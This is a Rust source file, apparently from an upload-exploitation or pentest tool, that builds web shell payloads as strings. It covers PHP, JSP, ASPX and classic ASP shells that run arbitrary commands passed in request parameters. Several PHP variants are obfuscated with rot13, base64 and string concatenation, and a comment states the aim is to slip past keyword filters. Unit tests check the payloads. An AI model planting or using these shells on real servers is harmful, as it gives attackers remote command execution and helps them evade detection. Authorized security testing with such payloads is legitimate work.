//! Server-side script bodies embedded in upload payloads.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

pub fn php_basic() -> String {
    "<?php system($_GET['cmd']); ?>".to_string()
}

/// `system` hidden behind rot13 so naive keyword filters miss it.
pub fn php_obfuscated() -> String {
    "<?php $__=str_rot13('flfgrz');$___=$_GET;@$__($___['cmd']); ?>".to_string()
}

pub fn php_system() -> String {
    "<?php if(isset($_GET['c'])) { system($_GET['c']); } ?>".to_string()
}

pub fn php_eval() -> String {
    "<?php if(isset($_GET['c'])) { eval($_GET['c']); } ?>".to_string()
}

pub fn php_base64() -> String {
    let encoded = STANDARD.encode("system($_GET['cmd']);");
    format!("<?php eval(base64_decode('{}')); ?>", encoded)
}

pub fn php_variable_function() -> String {
    "<?php $a='sys'.'tem';$a($_GET['c']); ?>".to_string()
}

pub fn jsp_reader() -> String {
    [
        "<%@ page import='java.io.*' %>",
        "<%",
        "  String cmd = request.getParameter(\"c\");",
        "  if(cmd != null) {",
        "    Process p = Runtime.getRuntime().exec(cmd);",
        "    BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));",
        "    String line;",
        "    while((line = br.readLine()) != null) {",
        "      out.println(line);",
        "    }",
        "  }",
        "%>",
    ]
    .join("\n")
}

pub fn jsp_exec() -> String {
    [
        "<%@ page import='java.io.*' %>",
        "<%",
        "  Runtime.getRuntime().exec(request.getParameter(\"c\"));",
        "%>",
    ]
    .join("\n")
}

pub fn aspx_process_start_info() -> String {
    [
        "<%@ Page Language=\"C#\" %>",
        "<%@ Import Namespace=\"System.Diagnostics\" %>",
        "<script runat=\"server\">",
        "  void Page_Load(object sender, EventArgs e) {",
        "    string cmd = Request.QueryString[\"c\"];",
        "    if (!string.IsNullOrEmpty(cmd)) {",
        "      Process.Start(new ProcessStartInfo {",
        "        FileName = \"cmd.exe\",",
        "        Arguments = \"/c \" + cmd,",
        "        UseShellExecute = false,",
        "        RedirectStandardOutput = true",
        "      });",
        "    }",
        "  }",
        "</script>",
    ]
    .join("\n")
}

pub fn aspx_process() -> String {
    [
        "<%@ Page Language=\"C#\" %>",
        "<%@ Import Namespace=\"System.Diagnostics\" %>",
        "<script runat=\"server\">",
        "  void Page_Load(object sender, EventArgs e) {",
        "    string cmd = Request.QueryString[\"c\"];",
        "    if (!string.IsNullOrEmpty(cmd)) {",
        "      Process proc = new Process();",
        "      proc.StartInfo.FileName = \"cmd.exe\";",
        "      proc.StartInfo.Arguments = \"/c \" + cmd;",
        "      proc.StartInfo.UseShellExecute = false;",
        "      proc.Start();",
        "    }",
        "  }",
        "</script>",
    ]
    .join("\n")
}

pub fn asp_classic() -> String {
    [
        "<%",
        "  Dim cmd",
        "  cmd = Request.QueryString(\"c\")",
        "  If cmd <> \"\" Then",
        "    Response.Write Server.CreateObject(\"WScript.Shell\").Exec(cmd).StdOut.ReadAll",
        "  End If",
        "%>",
    ]
    .join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_php_base64_decodes_to_system_call() {
        let shell = php_base64();
        let start = shell.find("base64_decode('").unwrap() + "base64_decode('".len();
        let end = start + shell[start..].find("')").unwrap();
        let decoded = STANDARD.decode(&shell[start..end]).unwrap();
        assert_eq!(decoded, b"system($_GET['cmd']);");
    }

    #[test]
    fn test_shells_are_stable() {
        assert_eq!(php_basic(), php_basic());
        assert_eq!(jsp_reader(), jsp_reader());
        assert!(aspx_process().contains("Process proc"));
        assert!(asp_classic().contains("WScript.Shell"));
    }
}
